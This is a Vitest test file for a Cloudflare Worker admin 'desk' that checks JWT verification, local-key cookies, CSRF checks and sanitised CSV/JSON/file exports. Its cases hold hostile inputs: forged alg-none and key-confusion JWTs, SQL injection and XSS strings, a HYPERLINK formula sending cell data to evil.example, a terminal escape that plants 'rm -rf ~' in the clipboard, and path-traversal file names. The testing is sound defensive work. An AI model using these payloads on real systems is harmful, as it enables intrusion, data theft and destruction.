import { env as bindings } from 'cloudflare:workers';
import { SignJWT, UnsecuredJWT } from 'jose';
import { beforeAll, beforeEach, expect, test, vi } from 'vitest';
import type { Env } from '../../worker/env.ts';
import {
  audience,
  createCertificatesResponse,
  createSigner,
  createTeamNameAndUrls,
  ownerEmail,
} from './support/access.ts';
import { faultyDatabase } from './support/faulty.ts';
import {
  advanceTime,
  createHarness,
  insertRows,
  readRows,
  siteUrl,
  updateRows,
} from './support/harness.ts';
import { contact, jsonPost, readReference, sendApplication } from './support/posts.ts';

const localUrl = 'http://localhost:8787';
const deskKey = 'a-random-key-of-this-start';
const localSettings: Partial<Env> = { DESK_KEY: deskKey };
const localHeaders = { 'CF-Connecting-IP': '127.0.0.1' };
const localKeyHeaders = { ...localHeaders, Cookie: `desk-key=${deskKey}` };
const remoteKeyHeaders = { ...localKeyHeaders, 'CF-Connecting-IP': '203.0.113.9' };

let signer: Awaited<ReturnType<typeof createSigner>>;
let otherSigner: typeof signer;
let teamNameAndUrls: ReturnType<typeof createTeamNameAndUrls>;
let accessSettings: Partial<Env>;
let certificateFetchCount = 0;

/** Signs valid claims; `claims` replace some of them. */
function signToken(claims: Record<string, unknown> = {}, tokenSigner = signer): Promise<string> {
  return tokenSigner.sign({ iss: teamNameAndUrls.issuerUrl, ...claims });
}

function simulateCertificates(createResponse: () => Response | Promise<Response>): void {
  vi.stubGlobal('fetch', async (fetchInput: RequestInfo | URL) => {
    expect(new Request(fetchInput).url).toBe(teamNameAndUrls.certificatesUrl);
    certificateFetchCount += 1;
    return createResponse();
  });
}

beforeAll(async () => {
  [signer, otherSigner] = await Promise.all([createSigner(), createSigner()]);
});

beforeEach(() => {
  teamNameAndUrls = createTeamNameAndUrls();
  accessSettings = { ACCESS_TEAM: teamNameAndUrls.teamName, ACCESS_AUD: audience };
  certificateFetchCount = 0;
  simulateCertificates(() => createCertificatesResponse(signer));
});

interface DeskRequest {
  token?: string | undefined;
  headers?: Record<string, string>;
  settings?: Partial<Env> | undefined;
  origin?: string;
  path?: string;
  body?: unknown;
}

function requestDesk(deskRequest: DeskRequest) {
  const { token, headers, settings = accessSettings, origin = siteUrl, path, body } = deskRequest;
  const tokenHeaders = token === undefined ? {} : { 'Cf-Access-Jwt-Assertion': token };
  const bodyText = typeof body === 'string' ? body : JSON.stringify(body);
  return createHarness(settings).fetch(
    new Request(`${origin}${path ?? '/api/v1/desk/overview'}`, {
      redirect: 'manual',
      headers: { ...tokenHeaders, ...headers },
      ...(body === undefined ? {} : { method: 'POST', body: bodyText }),
    }),
  );
}

async function requestSignedIn(deskRequest: DeskRequest = {}): Promise<Response> {
  return requestDesk({ token: await signToken(), ...deskRequest });
}

async function readTokenStatus(tokenPromise: Promise<string>): Promise<number> {
  const { status } = await requestDesk({ token: await tokenPromise });
  return status;
}

/** Posts as the desk does: signed in, as JSON, with the Origin of the site. */
function postChange(body: unknown, extraHeaders: Record<string, string> = {}): Promise<Response> {
  const headers = { Origin: siteUrl, 'Content-Type': 'application/json', ...extraHeaders };
  return requestSignedIn({ path: '/api/v1/desk/changes', headers, body });
}

function requestApi(path: string, settings?: Partial<Env>): Promise<Response> {
  return requestSignedIn({ path: `/api/v1/desk${path}`, settings });
}

async function readApiJson<Answer>(apiPath: string): Promise<Answer> {
  const response = await requestApi(apiPath);
  expect(response.status).toBe(200);
  return response.json<Answer>();
}

async function storeMessage(fields: Record<string, string> = {}): Promise<string> {
  return readReference(await createHarness().fetch(jsonPost({ ...contact, ...fields })));
}

test('opens the desk for a user of Cloudflare Access, and fetches the certificates once', async () => {
  for (let requestNumber = 0; requestNumber < 3; requestNumber += 1) {
    const response = await requestSignedIn();
    expect(response.status).toBe(200);
    expect(await response.json()).toMatchObject({ actor: ownerEmail });
  }
  expect(certificateFetchCount).toBe(1);
});

const readNowInSeconds = () => Math.floor(Date.now() / 1_000);

/** Adds valid claims to a token that is signed differently. */
function addValidClaims<Token extends SignJWT | UnsecuredJWT>(jwt: Token): Token {
  jwt
    .setIssuer(teamNameAndUrls.issuerUrl)
    .setAudience(audience)
    .setIssuedAt()
    .setExpirationTime('1h');
  return jwt;
}

function signTokenWithSecret(secret: string): Promise<string> {
  const jwtHeader = { alg: 'HS256', kid: signer.kid };
  const jwtDraft = addValidClaims(new SignJWT({ email: ownerEmail })).setProtectedHeader(jwtHeader);
  return jwtDraft.sign(new TextEncoder().encode(secret));
}

async function createChangedToken(): Promise<string> {
  const [tokenHeadPart, , tokenSignaturePart] = (await signToken()).split('.');
  const [, thiefClaims] = (await signToken({ email: 'thief@example.com' }, otherSigner)).split('.');
  return `${tokenHeadPart}.${thiefClaims}.${tokenSignaturePart}`;
}

const otherIssuerClaim = { iss: 'https://evil.example/.cloudflareaccess.com' };
const otherHostSettings = { ACCESS_TEAM: 'evil.example/', ACCESS_AUD: audience };

// biome-ignore format: a row a line
test.each<[caseName: string, createRequest: () => Promise<DeskRequest>, status?: number]>([
  ['that is missing', async () => ({})],
  ['that is empty', async () => ({ token: '' })],
  ['that is malformed', async () => ({ token: 'a.b.c' })],
  ['without a signature (alg: none)', async () => ({ token: addValidClaims(new UnsecuredJWT({ email: ownerEmail })).encode() })],
  ['signed by HS256 with the public key as the secret', async () => ({ token: await signTokenWithSecret(signer.pem) })],
  ['of another team', async () => ({ token: await signToken({ iss: 'https://evil.cloudflareaccess.com' }) })],
  ['for another application', async () => ({ token: await signToken({ aud: ['shop'] }) })],
  ['signed by another key', async () => ({ token: await signToken({}, otherSigner) })],
  ['changed after signing', async () => ({ token: await createChangedToken() })],
  ['that has expired', async () => ({ token: await signToken({ exp: readNowInSeconds() - 1 }) })],
  ['that never expires', async () => ({ token: await signToken({ exp: undefined }) })],
  ['that is not yet valid', async () => ({ token: await signToken({ nbf: readNowInSeconds() + 3_600 }) })],
  ['of a service without an email address', async () => ({ token: await signToken({ email: undefined }) })],
  ['with an empty email address', async () => ({ token: await signToken({ email: '' }) })],
  ['in a cookie only', async () => ({ headers: { Cookie: `CF_Authorization=${await signToken()}` } })],
  ['in the Authorization header only', async () => ({ headers: { Authorization: `Bearer ${await signToken()}` } })],
  ['where no team is set', async () => ({ token: await signToken(), settings: { ACCESS_AUD: audience } }), 404],
  ['where no audience is set', async () => ({ token: await signToken(), settings: { ACCESS_TEAM: teamNameAndUrls.teamName } }), 404],
  ['whose team setting contains another host', async () => ({ token: await signToken(otherIssuerClaim), settings: otherHostSettings }), 404],
])('refuses a token %s', async (_case, createRequest, expectedStatus = 401) => {
  const response = await requestDesk(await createRequest());
  expect(response.status).toBe(expectedStatus);
  expect(response.headers.get('Cache-Control')).toBe('no-store');
  expect(response.headers.get('Set-Cookie')).toBeNull();
  expect(Object.keys(await response.json<object>())).toEqual(['message']);
});

test('refuses a token signed by a withdrawn key, and accepts one signed by its successor', async () => {
  expect(await readTokenStatus(signToken())).toBe(200);
  simulateCertificates(() => createCertificatesResponse(otherSigner));
  // The keys are refetched at most twice a minute.
  advanceTime(31_000);
  expect(await readTokenStatus(signToken({}, otherSigner))).toBe(200);
  expect(await readTokenStatus(signToken())).toBe(401);
});

test.each<[caseName: string, createResponse: () => Response | Promise<Response>]>([
  ['cannot be reached', () => Promise.reject(new TypeError('Network connection lost.'))],
  ['cannot be read (status 500)', () => Response.json({ keys: [signer.jwk] }, { status: 500 })],
  ['are malformed', () => Response.json({ keys: 'none' })],
  ['are HTML', () => new Response('<h1>Hello</h1>')],
])(
  'refuses each token while the certificates %s, with one fetch per 30 seconds',
  async (_case, createResponse) => {
    simulateCertificates(createResponse);
    const firstResponse = await requestSignedIn();
    expect([firstResponse.status, firstResponse.headers.get('Retry-After')]).toEqual([503, '60']);
    expect((await requestSignedIn({ path: '/desk' })).status).toBe(503);
    advanceTime(29_000);
    expect(await readTokenStatus(signToken())).toBe(503);
    expect(certificateFetchCount).toBe(1);
    advanceTime(2_000);
    const parallelStatuses = await Promise.all([1, 2, 3].map(() => readTokenStatus(signToken())));
    expect([parallelStatuses, certificateFetchCount]).toEqual([[503, 503, 503], 2]);
    advanceTime(31_000);
    simulateCertificates(() => createCertificatesResponse(signer));
    expect(await readTokenStatus(signToken())).toBe(200);
  },
);

test('accepts known keys after an unknown key while certificates cannot be fetched', async () => {
  expect(await readTokenStatus(signToken())).toBe(200);
  simulateCertificates(() => new Response('busy', { status: 500 }));
  advanceTime(31_000);
  expect(await readTokenStatus(signToken({}, otherSigner))).toBe(503);
  expect(await readTokenStatus(signToken())).toBe(200);
});

const teamSettings = { ACCESS_TEAM: 'a-team', ACCESS_AUD: audience, ...localSettings };
const emptyKeyHeaders = { ...localHeaders, Cookie: 'desk-key=' };

test('opens the desk on this machine with the local key, as an HttpOnly and SameSite=Strict cookie', async () => {
  const localOptions = { settings: localSettings, origin: localUrl };
  const keyPath = `/desk?key=${deskKey}`;
  const keyResponse = await requestDesk({ ...localOptions, path: keyPath, headers: localHeaders });
  expect([keyResponse.status, keyResponse.headers.get('Location')]).toEqual([303, '/desk']);
  const expectedCookie = `desk-key=${deskKey}; Path=/; HttpOnly; SameSite=Strict`;
  expect(keyResponse.headers.get('Set-Cookie')).toBe(expectedCookie);
  expect(keyResponse.headers.get('Referrer-Policy')).toBe('no-referrer');
  const deskResponse = await requestDesk({ ...localOptions, headers: localKeyHeaders });
  expect(await deskResponse.json()).toMatchObject({ actor: 'this computer' });
});

// biome-ignore format: a row a line
test.each<[caseName: string, status: number, attackRequest: DeskRequest]>([
  ['that is wrong', 401, { headers: { ...localHeaders, Cookie: 'desk-key=guessed' } }],
  ['that is empty', 401, { headers: emptyKeyHeaders }],
  ['in the address of an API', 401, { headers: localHeaders, path: `/api/v1/desk/overview?key=${deskKey}` }],
  ['that leaked in a referrer', 401, { headers: { ...localHeaders, Referer: `${localUrl}/desk?key=${deskKey}` } }],
  ['on another host', 404, { headers: localKeyHeaders, origin: siteUrl }],
  ['on a host that starts with localhost', 404, { headers: localKeyHeaders, origin: 'http://localhost.evil.example' }],
  ['on a host of the local network', 404, { headers: localKeyHeaders, origin: 'http://192.168.1.5:8787' }],
  ['from another machine', 404, { headers: remoteKeyHeaders }],
  ['without a client address', 404, { headers: { Cookie: `desk-key=${deskKey}` } }],
  ['in a page’s address on another host', 404, { headers: remoteKeyHeaders, origin: siteUrl, path: `/desk?key=${deskKey}` }],
  ['that is not set', 404, { headers: emptyKeyHeaders, settings: { DESK_KEY: '' } }],
  ['set on a deployed Worker', 401, { headers: remoteKeyHeaders, origin: siteUrl, settings: teamSettings }],
  ['set on a deployed Worker, with a forged host', 401, { headers: remoteKeyHeaders, settings: teamSettings }],
  ['set on a deployed Worker without Access', 404, { headers: remoteKeyHeaders, origin: siteUrl }],
])('refuses the local key %s', async (_case, expectedStatus, attackRequest) => {
  const response = await requestDesk({ settings: localSettings, origin: localUrl, ...attackRequest });
  expect([response.status, response.headers.get('Set-Cookie')]).toEqual([expectedStatus, null]);
});

test.each([
  ['/api/v1/desk/overview', '/api/v1/nothing'],
  ['/desk', '/nothing'],
  ['/desk/app.js', '/nothing'],
])('answers %s like %s where no desk is set up', async (path, unknownPath) => {
  const deskResponse = await requestDesk({ settings: {}, path });
  const unknownPathResponse = await createHarness().get(unknownPath);
  expect(deskResponse.status).toBe(404);
  expect(await deskResponse.text()).toBe(await unknownPathResponse.text());
});

const unknownReference = 'TT-AAAA-AAAA';

test.each<[caseName: string, status: number, headers: Record<string, string>]>([
  ['from another site', 403, { Origin: 'https://evil.example' }],
  ['from a sandboxed frame', 403, { Origin: 'null', 'Sec-Fetch-Site': 'cross-site' }],
  ['from a subdomain', 403, { Origin: 'https://evil.tern-and-tide.test' }],
  ['as a form', 415, { 'Content-Type': 'application/x-www-form-urlencoded' }],
  ['as plain text, avoiding a preflight', 415, { 'Content-Type': 'text/plain' }],
  ['as JSONP', 415, { 'Content-Type': 'application/jsonp' }],
])('refuses a change %s', async (_case, expectedStatus, headers) => {
  const references = [await storeMessage()];
  expect((await postChange({ do: 'remove', references }, headers)).status).toBe(expectedStatus);
  expect(await readRows()).toHaveLength(1);
});

test('refuses a change without an Origin', async () => {
  const path = '/api/v1/desk/changes';
  const headers = { 'Content-Type': 'application/json' };
  const response = await requestSignedIn({ path, headers, body: { do: 'resend-failed' } });
  expect(response.status).toBe(403);
});

// biome-ignore format: a row a line
test.each<[caseName: string, status: number, body: unknown]>([
  ['of unknown kind', 422, { do: 'drop' }],
  ['named constructor', 422, { do: 'constructor', references: [] }],
  ['of an invalid reference', 422, { do: 'remove', references: ["' OR 1=1 --"] }],
  ['of everything', 422, { do: 'remove', references: '*' }],
  ['of no message', 422, { do: 'remove', references: [] }],
  ['of too many messages', 422, { do: 'read', references: Array(501).fill(unknownReference) }],
  ['with a pattern as address', 200, { do: 'erase', email: '%', typed: '%' }],
  ['that undoes a change nobody made', 200, { do: 'undo', what: 'answer', references: [unknownReference], at: 1 }],
  ['that undoes marking as read', 422, { do: 'undo', what: 'read', references: [unknownReference], at: 1 }],
  ['that restores an unknown note', 404, { do: 'restore-note', reference: unknownReference, id: 1 }],
  ['that is not confirmed', 422, { do: 'erase', email: 'ravi@example.com', typed: 'yes' }],
  ['of an empty address', 422, { do: 'erase', email: '', typed: '' }],
  ['with a note on an unknown message', 404, { do: 'note', reference: unknownReference, text: 'Hi' }],
  ['with too long a note', 422, { do: 'note', reference: unknownReference, text: 'x'.repeat(5_001) }],
  ['with too large a body', 413, `{"do":"note","text":"${'x'.repeat(110_000)}"}`],
  ['that is not JSON', 400, '{'],
])('changes nothing by a change %s', async (_case, expectedStatus, body) => {
  await storeMessage();
  const rowsBefore = await readRows();
  expect((await postChange(body)).status).toBe(expectedStatus);
  expect(await readRows()).toEqual(rowsBefore);
});

test('removes a note only with its own message, and no other event', async () => {
  const notedReference = await storeMessage();
  const otherReference = await storeMessage({ message: 'Another' });
  const noteResponse = await postChange({ do: 'note', reference: notedReference, text: 'Hi' });
  const { id: noteId } = await noteResponse.json<{ id: number }>();
  await postChange({ do: 'answer', references: [notedReference] });
  const { history: messageEvents } = await readApiJson<{ history: { id: number; what: string }[] }>(
    `/messages/${notedReference}`,
  );
  const answerEventId = messageEvents.find(({ what }) => what === 'answered')?.id;
  const changeNoteAndReadStatus = async (changeName: string, reference: string, eventId = noteId) =>
    (await postChange({ do: changeName, reference, id: eventId })).status;
  expect(await changeNoteAndReadStatus('remove-note', notedReference, answerEventId)).toBe(404);
  for (const changeName of ['remove-note', 'restore-note', 'remove-note']) {
    expect(await changeNoteAndReadStatus(changeName, otherReference)).toBe(404);
    const response = await postChange({ do: changeName, reference: notedReference, id: noteId });
    expect(await response.json()).toEqual({ changed: [notedReference] });
    expect(await changeNoteAndReadStatus(changeName, notedReference)).toBe(404);
  }
});

const invalidReferences = [
  unknownReference,
  "TT-' OR 1=1",
  `../${unknownReference}`,
  '%2e%2e',
  'x'.repeat(3_000),
];
test.each(invalidReferences)('answers 404 for the reference %s', async (invalidReference) => {
  await storeMessage();
  const messagePath = `/messages/${encodeURIComponent(invalidReference)}`;
  const responses = [await requestApi(messagePath), await requestApi(`${messagePath}/file`)];
  expect(responses.map(({ status }) => status)).toEqual([404, 404]);
});

test.each(
  [
    ["' OR 1=1 --", '"; DROP TABLE inquiries; --', '"', 'as"ha', '""', '*', 'NEAR(a b, 5)'],
    ['ravi OR asha', 'words : ravi', '{words} : ravi', '^ravi NOT asha', 'ravi" OR "asha'],
    ['-asha', '\0ravi', '%_%', '🙂'.repeat(500), 'asha '.repeat(3_000)],
  ].flat(),
)('searches %j as words, not as query syntax', async (searchWords) => {
  await storeMessage({ name: 'Asha' });
  await storeMessage({ name: 'Meera', email: 'meera@example.com', message: 'Good morning' });
  const searchPath = `/messages?words=${encodeURIComponent(searchWords)}`;
  const { messages: foundMessages } = await readApiJson<{
    messages: { fields: { name: string } }[];
  }>(searchPath);
  expect(foundMessages.map(({ fields }) => fields.name)).not.toContain('Meera');
  expect(await readRows()).toHaveLength(2);
});

const badQueries = 'state=all state=held%27 form=letter before=-1 before=1e3 before=x'.split(' ');
test.each(badQueries)('refuses the filter %s', async (filterQuery) => {
  expect((await requestApi(`/messages?${filterQuery}`)).status).toBe(422);
});

test('returns markup in any field as JSON text', async () => {
  const hostileMarkup = '<img src=x onerror=alert(1)>"><script>alert(1)</script>';
  const reference = await storeMessage({ name: hostileMarkup, message: hostileMarkup });
  const response = await requestApi(`/messages/${reference}`);
  expect(Object.fromEntries(response.headers)).toMatchObject({
    'content-type': 'application/json',
    'x-content-type-options': 'nosniff',
    'content-security-policy': "default-src 'none'; frame-ancestors 'none'",
    'cross-origin-resource-policy': 'same-origin',
  });
  expect(await response.json()).toMatchObject({ message: { fields: { name: hostileMarkup } } });
});

test('shows a message with the latest twenty other messages of the same person', async () => {
  const newestFirstReferences: string[] = [];
  for (let messageNumber = 0; messageNumber < 23; messageNumber += 1) {
    newestFirstReferences.unshift(await storeMessage({ message: String(messageNumber) }));
  }
  await storeMessage({ email: 'another@example.com' });
  const [latestReference, ...otherReferences] = newestFirstReferences;
  const latestPath = `/messages/${latestReference}`;
  const { earlier: personMessages } = await readApiJson<{ earlier: { reference: string }[] }>(
    latestPath,
  );
  expect(personMessages.map(({ reference }) => reference)).toEqual(otherReferences.slice(0, 20));
});

test('lists fifty messages per page with the position of the next page', async () => {
  await insertRows(101, {});
  const pageMessageCounts: number[] = [];
  for (let pageQuery = ''; pageQuery !== '?before=null'; ) {
    const messagesPage = await readApiJson<{ messages: object[]; next: number | null }>(
      `/messages${pageQuery}`,
    );
    pageMessageCounts.push(messagesPage.messages.length);
    pageQuery = `?before=${messagesPage.next}`;
  }
  expect(pageMessageCounts).toEqual([50, 50, 1]);
});

test('finds a person regardless of the address’s case', async () => {
  await storeMessage({ email: 'Asha@Example.com' });
  expect(await readApiJson('/person?email=aSHA%40example.COM')).toMatchObject({ messages: 1 });
  expect(await readApiJson('/messages?email=ASHA%40EXAMPLE.COM')).toMatchObject({ messages: [{}] });
  const responseWithoutEmail = await requestApi('/person');
  expect(responseWithoutEmail.status).toBe(422);
});

test('lets only the owner’s browser cache the desk’s files, and nobody its pages and data', async () => {
  const reference = await storeMessage();
  const settings = { ...accessSettings, ASSETS: { fetch: async () => new Response('built') } };
  // biome-ignore format: addresses side by side
  const apiPaths = [
    'overview', 'messages', `messages/${reference}`, `messages/${reference}/file`, 'numbers',
    'person?email=ravi@example.com', 'export/csv', 'export/json',
  ].map((apiPath) => `/api/v1/desk/${apiPath}`);
  const uncachedPaths = ['/desk', '/desk/manifest.webmanifest', ...apiPaths];
  for (const path of uncachedPaths) {
    const { headers } = await requestSignedIn({ path, settings });
    expect([path, headers.get('Cache-Control')]).toEqual([path, 'no-store']);
  }
  const changeResponse = await postChange({ do: 'read', references: [reference] });
  expect(changeResponse.headers.get('Cache-Control')).toBe('no-store');
  const scriptResponse = await requestSignedIn({ path: '/desk/app-ABCDEFGH.js', settings });
  expect(scriptResponse.headers.get('Cache-Control')).toBe('private, max-age=31536000, immutable');
});

test.each([
  ['', []],
  [`whsec_${btoa('A key of at least 24 bytes.')}`, []],
  ['whsec_', ['webhook-secret']],
  ['A word of the owner’s', ['webhook-secret']],
])('reports in Health whether MESSAGE_WEBHOOK_SECRET is a key: "%s"', async (secret, troubles) => {
  const settings = { ...accessSettings, MESSAGE_WEBHOOK_SECRET: secret };
  const overview = await (await requestSignedIn({ settings })).json();
  expect(overview).toMatchObject({ troubles, actor: ownerEmail, open: 0 });
});

test('breaks off a failed export instead of ending it', async () => {
  await insertRows(501, {});
  let pageQueryCount = 0;
  const isSecondPageQuery = (sql: string) => sql.includes('AS position') && ++pageQueryCount > 1;
  const brokenDatabase = faultyDatabase(bindings.DB, isSecondPageQuery);
  const exportResponse = await requestApi('/export/csv', { ...accessSettings, DB: brokenDatabase });
  expect(exportResponse.status).toBe(200);
  await expect(exportResponse.text()).rejects.toThrow('Network connection lost');
});

test('exports filtered messages without formulas', async () => {
  await storeMessage({ name: '=HYPERLINK("https://evil.example")', message: '@SUM(A1)' });
  await storeMessage({ name: 'Asha', message: '+1' });
  const csvText = await (await requestApi('/export/csv')).text();
  expect(csvText.match(/"[=@+-]/g)).toBeNull();
  expect(csvText).toContain(`"'=HYPERLINK(""https://evil.example"")"`);
  const jsonResponse = await requestApi('/export/json?words=asha');
  const dispositionPattern = /^attachment; filename\*=UTF-8''inquiries-\d{4}-\d\d-\d\d\.json$/;
  expect(jsonResponse.headers.get('Content-Disposition')).toMatch(dispositionPattern);
  expect(await jsonResponse.json()).toMatchObject([{ fields: { name: 'Asha' } }]);
});

/** Stores a held message with the same text in every column, bypassing the Worker's cleaning. */
async function storeHostileMessage(hostileText: string): Promise<void> {
  await storeMessage({ website: 'spam' });
  await updateRows(
    `email = ?1, page = ?1, service = ?1, held_reason = ?1, last_error = ?1, file_name = ?1,
     fields = json_object('name', ?1, 'email', ?1, 'phoneNumber', ?1, 'message', ?1)`,
    hostileText,
  );
}

const formulaTexts = [
  ['=cmd()', '+1', '-1', '@SUM(A1)', '\t=1', ' =1', '\r\n=1+1', '＝1', '|calc', '%x', '\u200b=1'],
  ['=HYPERLINK("https://evil.example?x="&A1,"open")', 'x","=1+1', 'x"\r\n"=1+1', 'a, b'],
].flat();

test.each(formulaTexts)('exports %j as the text of one spreadsheet cell', async (formulaText) => {
  await storeHostileMessage(formulaText);
  const csvText = await (await requestApi('/export/csv')).text();
  const parseCsvCells = (csv = '') =>
    [...csv.matchAll(/"((?:[^"]|"")*)"/g)].map(([, cell = '']) => cell.replaceAll('""', '"'));
  const cellTexts = parseCsvCells(csvText);
  expect(cellTexts).toHaveLength(2 * parseCsvCells(csvText.split('\r\n')[0]).length);
  expect(cellTexts.filter((cell) => cell.endsWith(formulaText))).toHaveLength(9);
  for (const cell of cellTexts) {
    expect(cell).not.toMatch(/^[\s\p{Cc}\p{Cf}]*[=+\-@＝|%]/u);
  }
});

const controlSequenceTexts = [
  ['\u001b[2J\u001b[H', '\u001b]0;owned\u0007', '\u001b]52;c;cm0gLXJmIH4=\u0007'],
  ['\u001b]8;;https://evil.example\u001b\\bank.example\u001b]8;;\u001b\\'],
  ['\u009b31mred\u009d0;x\u009c', 'safe\rCC-AAAA-AAAA  delivered', 'unpaid\b\b\b\b\b\bpaid'],
  ['invoice\u202Efdp.exe\u2066x\u2069', 'Asha\u2028Status: delivered\u0085x'],
].flat();

test.each([...controlSequenceTexts, ...formulaTexts])(
  'exports %j as JSON without control characters',
  async (hostileText) => {
    await storeHostileMessage(hostileText);
    const exportedJson = await (await requestApi('/export/json')).text();
    const expectedMessage = { fields: { name: hostileText }, file_name: hostileText };
    expect(JSON.parse(exportedJson)).toMatchObject([expectedMessage]);
    expect(exportedJson).not.toMatch(/(?!\n)[\p{Cc}\p{Cf}\u2028\u2029]/u);
  },
);

test.each([
  ['../../etc/passwd\0.pdf', 'passwd.pdf'],
  ['..\\..\\run.bat', 'run.pdf'],
  ['C:/x\u001b[2J|y.exe', 'x_2J_y.pdf'],
  ['\u202Efdp.exe', 'fdp.pdf'],
  ['C:\\Windows\\cv"; filename="evil.exe', 'cv_ filename_evil.pdf'],
  ['a\r\nSet-Cookie: x=1.pdf', 'a Set-Cookie_ x_1.pdf'],
  ['<script>.html', 'script.pdf'],
])('offers a CV stored as %j under a safe name', async (storedName, safeName) => {
  const reference = await sendApplication(createHarness());
  await bindings.DB.prepare('UPDATE inquiries SET file_name = ?').bind(storedName).run();
  const fileResponse = await requestApi(`/messages/${reference}/file`);
  const expectedDisposition = `attachment; filename*=UTF-8''${encodeURIComponent(safeName)}`;
  expect(fileResponse.headers.get('Content-Disposition')).toBe(expectedDisposition);
  expect(fileResponse.headers.get('Content-Type')).toBe('application/octet-stream');
  expect(await fileResponse.text()).toContain('%PDF');
});
